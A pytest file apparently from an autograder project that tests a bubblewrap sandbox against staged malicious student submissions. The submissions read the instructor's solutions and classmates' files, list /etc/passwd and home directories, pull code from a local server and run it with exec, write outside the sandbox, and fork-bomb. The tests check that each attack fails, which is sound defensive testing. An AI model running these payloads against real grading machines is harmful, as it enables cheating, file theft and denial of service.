"""Attacks on the sandbox: answer cells that read what they must not, phone home, or write outside.

Each is a real submission of the first chapter graded end to end with the bubblewrap sandbox on
(``isolation="bwrap"``; CI installs bubblewrap in .ci/run). An answer cell is the student's to write,
so each attack answers by *finding* the answer somewhere on the grading machine: in the instructor's
copy of the chapter, in a classmate's submission, from a server on the grader's host. With the
sandbox each scores no more than a blank submission and the feedback says what failed; the same
probe run without the sandbox finds the book and scores full marks, which shows the probes work
and the sandbox is what stops them.
"""

from __future__ import annotations

import csv
import socket
import sys
import textwrap
import threading
from pathlib import Path

import pytest

from attnbook import grader, sandbox
from test_grading_attacks import FULL, LABELS, blank_of, classroom, mini_chapter

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox is Linux's")

ROOT = Path(__file__).resolve().parent.parent


def test_bubblewrap_works_on_this_machine():
    assert sandbox.bwrap_works(), "install bubblewrap (apt-get install bubblewrap): CI needs the sandbox"
    assert grader.isolation_for("auto") == "bwrap"


def copy_answers_from(source: str):
    """Answer cells that exec the same cell from a notebook found at ``source`` (a Python expression
    for its path, evaluated in the kernel), falling back to the stub when it cannot be read."""
    def change(nb):
        for cell in nb.cells:
            if "solution" in cell.metadata.get("tags", []):
                cell.source = textwrap.dedent(f"""
                    import json, os
                    from pathlib import Path
                    try:
                        _found = json.loads(Path({source}).read_text())
                        _cells = {{c.get("id"): "".join(c["source"]) for c in _found["cells"]}}
                        exec(_cells[{cell.get("id")!r}])
                    except Exception as err:
                        print("probe failed:", type(err).__name__, err)
                        raise
                    """)
    return change


def answer_with(code: str):
    def change(nb):
        cell = next(c for c in nb.cells if "solution" in c.metadata.get("tags", []))
        cell.source = textwrap.dedent(code) + "\n" + cell.source
    return change


class Server:
    """A TCP server on the grader's host that hands out the first answer to whoever connects."""

    def __init__(self, answer: str):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port, self.connections, self.answer = self.sock.getsockname()[1], 0, answer.encode()
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                conn.sendall(self.answer)

    def close(self):
        self.stop.set()
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    root = tmp_path_factory.mktemp("sandbox")
    book, subs, out = root / "book", root / "submissions", root / "out"
    mini = mini_chapter()
    solution = next(c.source for c in mini.cells if "solution" in c.metadata.get("tags", []))
    server = Server(solution)
    outside = root / "written-from-the-kernel"
    attacks = {
        # the instructor's chapter, found from where attnbook is installed (a source checkout)
        "read-the-book-beside-the-package":
            copy_answers_from('Path(__import__("attnbook").__file__).parent.parent / "book" / "attention.ipynb"'),
        "read-the-book-by-its-path": copy_answers_from(repr(str(book / "attention.ipynb"))),
        "read-a-classmates-submission": copy_answers_from(repr(str(subs / "ada" / "attention.ipynb"))),
        "read-the-grades-and-home": answer_with(f"""
            from pathlib import Path
            for secret in [{str(out)!r}, Path.home().parent, "/etc/passwd", "/root", "/home"]:
                print(secret, sorted(p.name for p in Path(secret).iterdir())
                      if Path(secret).is_dir() else Path(secret).read_text()[:100])
            """),
        "phone-home": answer_with(f"""
            import socket
            with socket.create_connection(("127.0.0.1", {server.port}), timeout=3) as s:
                exec(s.recv(100000).decode())
            """),
        "write-outside": answer_with(f"""
            from pathlib import Path
            Path("/tmp/inside-the-sandbox").write_text("x")  # its own /tmp: allowed, private
            Path({str(outside)!r}).write_text("x")
            """),
        "fork-bomb": answer_with("""
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
            """),
    }
    classroom(root, {"ada": mini, "blank": blank_of(mini), **attacks})
    out.mkdir()
    (out / "grades-of-last-week.csv").write_text("student,points\nada,4\n")
    limits = sandbox.Limits(cell_timeout=6, notebook_timeout=120, memory=3 * sandbox.GIB, processes=64)
    try:
        rows = grader.grade([subs], out / "grades.csv", book_dir=book, limits=limits, jobs=2, isolation="bwrap")
        # the control: the same probe without the sandbox finds the book (in a source checkout)
        control = grader.grade([subs / "read-the-book-by-its-path"], root / "control.csv", book_dir=book,
                               limits=limits, isolation="none")
    finally:
        server.close()
    with (out / "gradebook.csv").open(newline="") as f:
        gradebook = {line[0]: line for line in csv.reader(f)}
    return {"rows": rows, "control": control, "gradebook": gradebook, "server": server, "outside": outside,
            "out": out, "attacks": attacks}


def rows_of(result, student):
    return {r["label"]: r for r in result["rows"] if r["student"] == student}


def test_every_row_says_it_ran_in_the_sandbox(sandboxed):
    assert {r["isolation"] for r in sandboxed["rows"]} == {"bwrap"}
    assert "isolation: bwrap" in grader.summary(sandboxed["rows"])


def test_the_probe_finds_the_book_without_the_sandbox(sandboxed):
    assert all(r["status"] == "passed" for r in sandboxed["control"] if r["label"] != "*")
    assert {r["isolation"] for r in sandboxed["control"]} == {"none"}
    assert "isolation: none (no sandbox" in grader.summary(sandboxed["control"])


def test_the_honest_student_keeps_full_marks(sandboxed):
    assert sandboxed["gradebook"]["ada"][1:] == [str(FULL), str(FULL)]
    assert sandboxed["gradebook"]["blank"][1:] == ["0", "0"]


@pytest.mark.parametrize("attack", ["read-the-book-beside-the-package", "read-the-book-by-its-path",
                                    "read-a-classmates-submission", "read-the-grades-and-home", "phone-home",
                                    "write-outside", "fork-bomb"])
def test_an_attack_on_the_sandbox_scores_as_blank_and_is_reported(sandboxed, attack):
    rows = rows_of(sandboxed, attack)
    assert all(rows[label]["passed"] == 0 for label in LABELS), {k: r["message"] for k, r in rows.items()}
    assert sandboxed["gradebook"][attack][1:] == ["0", "0"]
    first = rows[LABELS[0]]["message"]
    if attack == "fork-bomb":  # killed once its cell outlived the time limit
        assert rows["*"]["status"] == "error" and "ran past its time limit" in rows["*"]["message"]
    else:
        assert first.startswith(grader.NOT_RUN) and "your answer cell raised" in first, first


def test_the_reasons_reach_the_feedback(sandboxed):
    feedback = sandboxed["out"] / "feedback"
    reasons = {
        "read-the-book-by-its-path": "FileNotFoundError",
        "read-a-classmates-submission": "FileNotFoundError",
        "read-the-grades-and-home": "FileNotFoundError",
        "phone-home": "ConnectionRefusedError",
        "write-outside": "FileNotFoundError",
        "fork-bomb": "ran past its time limit",
    }
    for attack, reason in reasons.items():
        assert reason in (feedback / f"{attack}.md").read_text(), attack


def test_nothing_left_the_sandbox(sandboxed):
    assert sandboxed["server"].connections == 0, "a kernel reached a server on the grader's host"
    assert not sandboxed["outside"].exists(), "a kernel wrote outside its folder"
    assert not Path("/tmp/inside-the-sandbox").exists()
